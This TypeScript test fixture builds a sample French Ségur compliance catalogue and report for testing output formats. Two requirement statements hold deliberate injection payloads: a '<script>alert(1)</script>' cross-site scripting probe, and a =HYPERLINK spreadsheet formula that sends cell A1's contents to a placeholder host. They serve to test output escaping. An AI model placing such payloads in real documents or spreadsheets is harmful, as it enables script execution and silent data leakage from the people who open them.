// A small fixed ReportContext for the format tests: every verdict, findings with and without file
// and line, a finding outside any requirement, hostile REM text (markup, a formula) and accents.
import type { Catalog } from '../../src/catalog/schema.js';
import type { Report, ReportContext, ReportFinding } from '../../src/report/model.js';

export const SCRIPT_STATEMENT = 'Le LGC DOIT qualifier l’identité <script>alert(1)</script> avant tout échange.';
export const FORMULA_STATEMENT = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez ici")';

const sha = (char: string): string => char.repeat(64);

export const fixtureCatalog: Catalog = {
  schema: 'segur-catalog/1',
  id: 'REM-TEST',
  title: 'REM de test (échantillon, pas un texte ANS)',
  source: { file: 'REM-TEST.xlsx', sheet: 'Exigences', sha256: sha('0') },
  requirements: [
    {
      id: 'INS/va1.01',
      scope: 'Vague 1',
      chapter: 'Gestion de l’INS',
      function: 'Appel au téléservice INSi',
      statement: 'Le LGC DOIT appeler le téléservice INSi.',
      nature: 'EXIGENCE',
      conditional: false,
      profiles: ['Général'],
      scenarios: [
        {
          id: 'INS/va1.01.01',
          text: 'Rechercher l’INS d’un patient.',
          proofs: [
            { id: 'INS/va1.01.01.01', text: 'Capture d’écran de l’appel INSi' },
            { id: 'INS/va1.01.01.02', text: 'Réponse INSi enregistrée' },
          ],
        },
      ],
    },
    {
      id: 'INS/va1.02',
      scope: 'Vague 1',
      chapter: 'Gestion de l’INS',
      function: 'Qualification de l’identité',
      statement: SCRIPT_STATEMENT,
      nature: 'EXIGENCE',
      conditional: false,
      profiles: ['Général'],
      scenarios: [
        { id: 'INS/va1.02.01', text: 'Produire un CDA portant l’INS qualifiée.', proofs: [{ id: 'INS/va1.02.01.01', text: 'Document CDA' }] },
      ],
    },
    {
      id: 'DMP/va1.01',
      scope: 'Vague 1',
      chapter: 'Alimentation du DMP',
      function: 'Envoi d’un document au DMP',
      statement: 'Le LGC DOIT alimenter le DMP.',
      nature: 'EXIGENCE',
      conditional: true,
      profiles: ['Général'],
      scenarios: [
        {
          id: 'DMP/va1.01.01',
          text: 'Envoyer un document.',
          proofs: [
            { id: 'DMP/va1.01.01.01', text: 'Document CDA envoyé au DMP' },
            { id: 'DMP/va1.01.01.02', text: 'Rapport de validation EVS' },
          ],
        },
        { id: 'DMP/va1.01.02', text: 'Remplacer un document.', proofs: [{ id: 'DMP/va1.01.02.01', text: 'Capture d’écran' }] },
      ],
    },
    {
      id: 'ERGO/va1.05',
      scope: 'Vague 1',
      chapter: 'Gestion et partage des documents',
      function: 'Aperçu avant envoi',
      statement: FORMULA_STATEMENT,
      nature: 'PRECONISATION',
      conditional: true,
      profiles: ['Général'],
      scenarios: [{ id: 'ERGO/va1.05.01', text: 'Montrer l’aperçu.', proofs: [{ id: 'ERGO/va1.05.01.01', text: 'Vidéo de démonstration' }] }],
    },
    {
      id: 'LGC.MDV.06',
      scope: 'Vague 1',
      chapter: 'Gestion et partage des documents',
      function: 'Module centre de santé',
      statement: 'Le LGC PEUT gérer un centre de santé.',
      nature: 'EXIGENCE',
      conditional: false,
      profiles: ['Centre de santé'],
      scenarios: [{ id: 'LGC.MDV.06.01', text: 'Ouvrir le module.', proofs: [{ id: 'LGC.MDV.06.01.01', text: 'Capture d’écran' }] }],
    },
  ],
};

const cdaError: ReportFinding = {
  rule: 'cda/realm-code',
  severity: 'error',
  message: 'realmCode absent ou différent de « FR »',
  requirement: 'INS/va1.02',
  proof: 'INS/va1.02.01.01',
  file: 'proofs/INS_va1.02.01.01/cda.xml',
  location: '/ClinicalDocument/realmCode',
  line: 3,
};
const insWarning: ReportFinding = {
  rule: 'ins/oid',
  severity: 'warning',
  message: 'OID d’INS inattendu : 1.2.3 & <b>',
  requirement: 'INS/va1.02',
  proof: 'INS/va1.02.01.01',
  file: 'proofs/INS_va1.02.01.01/cda.xml',
  location: '/ClinicalDocument/recordTarget',
};
const missingProof: ReportFinding = {
  rule: 'coverage/missing-proof',
  severity: 'error',
  message: 'Preuve DMP/va1.01.01.02 : aucun fichier',
  requirement: 'DMP/va1.01',
  proof: 'DMP/va1.01.01.02',
};
const unknownFile: ReportFinding = {
  rule: 'bundle/unlisted-file',
  severity: 'warning',
  message: 'Fichier non rattaché à une preuve : notes,v2.txt',
  file: 'notes,v2.txt',
};

export const fixtureReport: Report = {
  schema: 'segur-report/1',
  tool: { name: 'segur', version: '0.1.0' },
  catalog: { id: 'REM-TEST', title: fixtureCatalog.title, sha256: sha('0') },
  bundle: { editor: { name: 'Éditeur Exemple' }, software: { name: 'MonLGC', version: '5.2.0' }, profiles: ['Général'] },
  verdict: 'fail',
  summary: { requirements: 4, conforme: 1, 'non-conforme': 1, incomplet: 1, 'non-applicable': 1, errors: 2, warnings: 2 },
  requirements: [
    {
      id: 'INS/va1.01',
      nature: 'EXIGENCE',
      verdict: 'conforme',
      proofs: [
        { id: 'INS/va1.01.01.01', files: [{ path: 'proofs/INS_va1.01.01.01/capture.png', kind: 'screenshot', sha256: sha('a'), size: 2048 }] },
        {
          id: 'INS/va1.01.01.02',
          files: [
            { path: 'proofs/INS_va1.01.01.02/reponse.xml', kind: 'ins', sha256: sha('b'), size: 512 },
            { path: 'proofs/INS_va1.01.01.02/requête.xml', kind: 'ins', sha256: sha('c'), size: 256 },
          ],
        },
      ],
      findings: [],
    },
    {
      id: 'INS/va1.02',
      nature: 'EXIGENCE',
      verdict: 'non-conforme',
      proofs: [{ id: 'INS/va1.02.01.01', files: [{ path: 'proofs/INS_va1.02.01.01/cda.xml', kind: 'cda', sha256: sha('d'), size: 4096 }] }],
      findings: [cdaError, insWarning],
    },
    {
      id: 'DMP/va1.01',
      nature: 'EXIGENCE',
      verdict: 'incomplet',
      // Scenario DMP/va1.01.02 declared not applicable: its proof is not expected.
      proofs: [
        { id: 'DMP/va1.01.01.01', files: [{ path: 'proofs/DMP_va1.01.01.01/doc.xml', kind: 'cda', sha256: sha('e'), size: 100 }] },
        { id: 'DMP/va1.01.01.02', files: [] },
      ],
      findings: [missingProof],
    },
    { id: 'ERGO/va1.05', nature: 'PRECONISATION', verdict: 'non-applicable', proofs: [], findings: [] },
  ],
  findings: [unknownFile, cdaError, insWarning, missingProof],
};

export function fixtureContext(overrides: Partial<ReportContext> = {}): ReportContext {
  return { report: fixtureReport, catalog: fixtureCatalog, lang: 'fr', bundleRoot: 'evidence', strict: false, ...overrides };
}
